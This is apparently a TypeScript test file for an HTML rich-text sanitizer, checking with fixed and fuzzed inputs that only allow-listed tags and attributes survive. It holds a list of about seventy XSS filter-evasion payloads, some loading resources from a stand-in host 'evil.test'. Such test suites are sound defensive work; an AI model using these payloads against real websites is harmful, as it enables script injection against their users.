import { plainText } from '@sluice/form'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { sanitizeRichText } from './sanitize.ts'

const file = '/api/files/01900000-0000-7000-8000-000000000000'

/** Ways by which people have got code past filters. */
const evasions = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<script/src=data:,alert(1)></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror="alert(1)"//',
  '<img/src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  `<img src="${file}" onload="alert(1)">`,
  `<img src="${file}?x=1">`,
  `<img src="${file}/../../logout">`,
  '<img src="https://evil.test/pixel.gif">',
  '<img src="//evil.test/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="https://evil.test/a.png 1x">',
  '<img dynsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="https://a.test" target="_top" rel="opener">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<p style="background:url(https://evil.test)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p id="root" class="ant-btn" name="cookie">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td colspan="1000000000">x</td>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>a</p\u0001><script>alert(1)</script>',
]

const allowed =
  /^<(?:\/?(?:p|h[1-4]|blockquote|pre|code|ul|ol|li|strong|b|em|i|u|s|sub|sup|table|thead|tbody|tr)>|\/a>|a>|br \/>|hr \/>|a(?: href="(?:https?:|mailto:|tel:)[^"<>]*")? rel="noopener noreferrer nofollow" target="_blank">|img src="\/api\/files\/[0-9a-f-]{36}"(?: alt="[^"<>]*")? \/>|\/t[dh]>|t[dh](?: (?:col|row)span="[1-9]\d?")*>)$/

/** What stands in a sanitized text: tags of the list, each with the attributes of the list, and texts without `<`. */
function requireHarmless(html: string | null) {
  for (const [tag] of (html ?? '').matchAll(/<[^>]*>?/g)) expect(tag).toMatch(allowed)
}

test('[N2.1] whatever is written, only known elements with known attributes are kept', () => {
  expect(evasions.length).toBeGreaterThanOrEqual(40)
  for (const text of evasions) {
    requireHarmless(sanitizeRichText(text))
    requireHarmless(sanitizeRichText(`<p>vor ${text} nach</p>`))
    requireHarmless(sanitizeRichText(`<ul><li>${text}`))
  }
  const piece = fc.oneof(
    fc.constantFrom(...evasions),
    fc.string({ unit: 'grapheme', maxLength: 8 }),
    fc.constantFrom('<', '>', '"', '&', '<p', '</', '<!--', '='),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const clean = sanitizeRichText(pieces.join(''))
      requireHarmless(clean)
      // What is kept is kept as it is when it is sent back.
      expect(clean === null ? null : sanitizeRichText(clean)).toBe(clean)
    }),
    {
      numRuns: 500,
      // A paragraph in a paragraph, which only a second reading closes.
      examples: [[['<p', '>', '<', '<p', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">']]],
    },
  )
})

test('[N2.1] what editors write stays: lists, tables, links, headings, pictures of the store', () => {
  const kept = [
    '<h2>标题</h2><p>一<strong>二</strong><em>三</em><u>四</u><s>五</s></p>',
    '<ul><li><p>甲</p><ol><li><p>乙</p></li></ol></li></ul>',
    '<table><tbody><tr><th colspan="2">甲</th></tr><tr><td rowspan="2">乙</td><td></td></tr></tbody></table>',
    '<p><a href="https://example.com/路?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">链接</a></p>',
    `<p><img src="${file}" alt="图" /></p>`,
  ]
  for (const text of kept) expect(sanitizeRichText(text)).toBe(text)
  expect(sanitizeRichText('<p>  </p><p></p>')).toBeNull()
  expect(sanitizeRichText('<script>alert(1)</script>')).toBeNull()
})

test('[N2.1] the text without its looks has a line per paragraph, item and row, and its signs as typed', () => {
  expect(plainText('<h2>题</h2><p>a<br />b</p><ul><li>甲</li><li>乙</li></ul>')).toBe('题\na\nb\n甲\n乙')
  expect(plainText('<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>')).toBe('1\t2\n3')
  expect(plainText('<p>&lt;b&gt; &amp;lt; &quot;x&quot;</p>')).toBe('<b> &lt; "x"')
})
